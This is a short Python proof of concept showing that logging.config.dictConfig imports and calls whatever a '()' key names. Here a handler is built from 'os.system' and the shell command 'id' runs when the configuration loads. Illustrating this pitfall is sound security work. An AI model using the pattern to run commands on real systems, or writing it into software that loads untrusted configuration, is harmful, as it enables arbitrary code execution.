# '()' keys are imported by dotted name and called
import logging.config
logging.config.dictConfig({
    "version": 1,
    "handlers": {"h": {"()": "os.system", "command": "id"}},
    "root": {"handlers": ["h"]},
})
